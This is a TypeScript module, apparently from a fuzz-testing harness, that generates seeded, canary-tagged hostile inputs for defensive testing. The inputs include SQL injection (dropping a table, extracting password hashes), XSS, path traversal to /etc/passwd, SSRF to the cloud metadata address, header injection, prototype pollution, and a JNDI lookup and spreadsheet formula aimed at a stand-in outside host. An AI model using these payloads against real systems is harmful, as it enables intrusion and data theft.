// What a hostile visitor sends, from a seed: the same seed gives the same values, and each carries a canary by which it is found again.

export type Draw = { (): number; below(n: number): number; one<T>(of: readonly T[]): T; some(share: number): boolean };

/** mulberry32: small, and the same on every machine. */
export function drawOf(seed: number): Draw {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
  const below = (n: number) => Math.floor(next() * n);
  return Object.assign(next, {
    below,
    one: <T>(of: readonly T[]) => of[below(of.length)]!,
    some: (share: number) => next() < share,
  });
}

export const canaryOf = (seed: number): string => `qzcanary${seed.toString(36)}x`;

type Text = (canary: string) => string;

/** Texts by what they are after. */
export const texts: Record<string, readonly Text[]> = {
  sql: [
    (c) => `' OR '1'='1' -- ${c}`,
    (c) => `'; drop table patients; -- ${c}`,
    (c) => `${c}') union select password_hash from users --`,
    (c) => `\\'; select pg_sleep(9); -- ${c}`,
    (c) => `$$${c}$$ $1 $2 %s %(x)s`,
  ],
  markup: [
    (c) => `<script>${c}</script>`,
    (c) => `"><img src=x onerror=${c}()>`,
    (c) => `<${c} onfocus=alert(1) autofocus>`,
    (c) => `javascript:alert("${c}")`,
    (c) => `{{7*7}}\${7*7}<%= ${c} %>`,
  ],
  path: [
    (c) => `../../../../../../etc/passwd%00${c}`,
    (c) => `..%2f..%2f..%5c..%5c${c}`,
    (c) => `%2e%2e/%c0%ae%c0%ae/${c}`,
    (c) => `file:///etc/passwd#${c}`,
    (c) => `C:\\windows\\${c}\\..\\con`,
    (c) => `.env;${c}~1`,
  ],
  address: [
    (c) => `http://169.254.169.254/latest/${c}`,
    (c) => `http://[::ffff:127.0.0.1]:5432/${c}`,
    (c) => `http://2130706433/${c}`,
    (c) => `//elsewhere.example/${c}`,
    (c) => `gopher://0x7f.1:25/_${c}`,
    (c) => `/\\elsewhere.example/${c}`,
  ],
  lines: [
    (c) => `${c}\r\nSet-Cookie: ${c}=1\r\n\r\n`,
    (c) => `${c}\r\nBcc: all@elsewhere.example\r\n`,
    (c) => `${c}\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:${c}`,
    (c) => `${c}\u2028\u2029\u0085\v\f`,
    (c) => `=HYPERLINK("http://elsewhere.example","${c}")`,
    (c) => `\${jndi:ldap://elsewhere.example/${c}}`,
  ],
  unicode: [
    (c) => `${c}\0`,
    (c) => `\0${c}\u0001\u001b[2J`,
    (c) => `${c}\u202e\u200b\u200d\ufeff\u2066`,
    (c) => `${c}\ud800`,
    (c) => `\udfff${c}`,
    (c) => `${c}${"e\u0301\u0302\u0303".repeat(50)}`,
    (c) => `İıſK${c}ß\u{1f469}\u200d\u{1f680}`,
    (c) => `\ufffe\uffff${c}`,
  ],
  size: [
    (c) => c.repeat(40),
    (c) => c.repeat(400),
    (c) => `${c}${"a".repeat(70_000)}`,
    (c) => `${c}${" ".repeat(5_000)}!`,
    (c) => `${"(".repeat(3_000)}${c}`,
    () => "",
    () => " ",
  ],
  number: [
    ...["-1", "0", "1e309", "-0", "NaN", "Infinity", "9007199254740993", "2147483648", "0x10", "1_000", "1e-7"].map(
      (text) => () => text,
    ),
    (c) => `1${c}`,
  ],
  date: [
    "2026-02-30",
    "0000-00-00",
    "99999-12-31",
    "2026-11-24T25:61:00Z",
    "+275760-09-13T00:00:00Z",
    "-000001-01-01",
    "2026-11-24T09:00:00-07:00",
    "2026-W48-2",
    "1970-01-01T00:00:00.000000001Z",
    "12:00",
    "24:00",
    "99:99",
  ].map((text) => () => text),
  id: [
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-7fff-bfff-ffffffffffff",
    "__proto__",
    "constructor",
    "{01a20f14-6b0e-746f-aab2-e52d2438a6bf}",
    "01A20F146B0E746FAAB2E52D2438A6BF",
    "toString",
    "null",
    "undefined",
  ].map((text) => () => text),
};

const families = Object.keys(texts);

export const hostileText = (draw: Draw, canary: string): string => draw.one(texts[draw.one(families)]!)(canary);

/** Any JSON value: of a wrong type, too deep, too many, named like what every object has. */
export function hostileValue(draw: Draw, canary: string): unknown {
  const text = hostileText(draw, canary);
  const deep = (levels: number) => JSON.parse(`${"[".repeat(levels)}"${canary}"${"]".repeat(levels)}`) as unknown;
  return draw.one([
    () => text,
    () => text,
    () => draw.one([null, true, false, 0, -1, 1.5, 1e21, Number.MAX_SAFE_INTEGER]),
    () => [],
    () => ({}),
    () => [text],
    () => ({ [canary]: text }),
    () => JSON.parse(`{"__proto__":{"admin":true},"constructor":{"prototype":{"${canary}":1}}}`) as unknown,
    () => ({ ["the".concat("n")]: text, toString: text, valueOf: 1, length: -1 }),
    () => deep(draw.one([3, 19, 21, 200, 2_000])),
    () => Array.from({ length: draw.one([2, 300, 3_000]) }, () => canary),
    () => Object.fromEntries(Array.from({ length: 500 }, (_, at) => [`${canary}${at}`, at])),
  ])();
}
